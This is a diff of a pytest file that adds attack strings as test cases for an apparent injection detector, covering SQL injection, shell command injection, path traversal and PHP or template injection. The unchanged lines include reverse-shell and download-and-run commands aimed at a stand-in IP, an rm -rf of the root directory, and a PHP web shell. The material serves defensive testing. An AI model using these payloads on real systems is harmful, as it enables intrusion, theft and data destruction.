@@ -62,6 +62,18 @@ def test_conditions_in_every_place(start: str) -> None:
         ("'.)(,\"'(,", "probe"),
         ("'{\"a\":1}'::jsonb @> '{}'::jsonb or 1=1", "logic"),
         ("$$a$$=$$a$$ or 2=2", "logic"),
+        ("9--x\nunion--y\nselect 1,2", "union"),
+        ("9)#a\nor#b\n4=4", "logic"),
+        ("9 un/**/ion sel/**/ect 1,name fr/**/om voters", "union"),
+        ("9' o/**/r 3=3", "disguise"),
+        ("7 1.e) 1.e) and sleep 1.e(4 1.e)", "delay"),
+        ("9$$) or 4=4 and ($$a$$=$$a", "logic"),
+        ("9.union select 1,2", "union"),
+        ("-9dunion all select 1,2--", "union"),
+        ("(select 'a' where 4=4;iif(3=3,1,1/0)", "conditional"),
+        ("(5=5)*7", "logic"),
+        ("'[1]' < '$.a' = 7", "logic"),
+        ("drop voters;--", "statement"),
     ],
 )  # fmt: skip
 def test_sql_by_what_it_does(text: str, kind: str) -> None:
@@ -90,6 +102,7 @@ def test_markup_that_browsers_run(text: str) -> None:
         "c\\at${IFS}/etc/passwd", ";c''at /etc/passwd", ";/???/c?t /etc/passwd", "{cat,/etc/passwd}", ";$(printf 'l\\x73')", "() { :;}; echo x", "a|nc -e /bin/sh 203.0.113.9 4444", "bash -i >& /dev/tcp/203.0.113.9/99 0>&1",
         "python3 -c 'import os'", "&& rm -rf --no-preserve-root /", "cat /etc/passwd", "${PATH:0:1}bin", "; sleep 9 ;", "cmd /c whoami", "powershell -enc SQBFAFgA", "& dir c:\\", "| type %windir%\\win.ini", "for /f %i in ('whoami') do echo %i",
         ";Get-ChildItem -Path c:\\", "x & certutil -urlcache -f http://203.0.113.9/a a.exe", "iex(new-object net.webclient).downloadstring('http://e')", "nohup curl 203.0.113.9",
+        "whoami;0'0'", "{,echo,#a}", "{,/?s?/b?n/c?t,}", "$(whoami$(()))", "$(( $(id) 4))", "ldconfig --verbose -p", ";at 2:00 id", "a|env", "if (aa) == (aa) echo x", "if/i a==b type c",
     ],
 )  # fmt: skip
 def test_command_lines(text: str) -> None:
@@ -101,7 +114,7 @@ def test_command_lines(text: str) -> None:
     "text",
     [
         "../../../../etc/passwd", "..\\..\\windows\\win.ini", "....//....//x", "/etc/shadow", "c:\\windows\\system32\\drivers\\etc\\hosts", "php://filter/read=string.rot13/resource=a.php", "file:///proc/self/environ", "/a/..;/manager/html",
-        "/WEB-INF/web.xml", "\\\\203.0.113.9\\share\\a", "expect://id", "0x2e0x2e/0x2e0x2e/x", "jar:http://e.example!/a", "/proc/self/fd/3", "phar://a.jpg/b",
+        "/WEB-INF/web.xml", "\\\\203.0.113.9\\share\\a", "expect://id", "0x2e0x2e/0x2e0x2e/x", "jar:http://e.example!/a", "/proc/self/fd/3", "phar://a.jpg/b", "index.php::$DATA", "data:;base64,PD9waHA=",
     ],
 )  # fmt: skip
 def test_files_of_the_machine(text: str) -> None:
@@ -112,7 +125,7 @@ def test_files_of_the_machine(text: str) -> None:
 @pytest.mark.parametrize(
     ("text", "kind"),
     [
-        ("<?php system($_GET[1]);", "php"), ("phpinfo()", "php"), ("call_user_func_array('system',['id'])", "php"), ("('sys'.'tem')('id')", "php"), ("${@print(md5(7))}", "php"),
+        ("<?php system($_GET[1]);", "php"), ("phpinfo()", "php"), ("<?\tphp echo 1", "php"), ("<? echo 1", "php"), ("memory_limit = 512M", "php"), ("exec //c\r\n (a)", "php"), ("fopen  (blah)", "php"), ('return"system"(x).y', "php"), ("$_x['a']", "php"), ("<% if true %>4<% end %>", "template"), ("call_user_func_array('system',['id'])", "php"), ("('sys'.'tem')('id')", "php"), ("${@print(md5(7))}", "php"),
         ("require('child_process').exec('id')", "javascript"), ("a[constructor][prototype][x]", "javascript"), ("__proto__.admin", "javascript"), ("().__class__.__mro__[1]", "javascript"), ("while(true){}", "javascript"),
         ("T(java.lang.Runtime).getRuntime().exec('id')", "java"), ("class.module.classLoader.resources", "java"), ("(#a=@java.lang.Runtime@getRuntime())", "java"), ("%{#context['xwork']}", "java"),
         ("{{7*7}}", "template"), ("${7*191}", "template"), ("{{config.items()}}", "template"), ("{% for x in y %}", "template"), ("<%= 7*7 %>", "template"), ("#{3*4}", "template"), ("{{''.__class__}}", "template"),
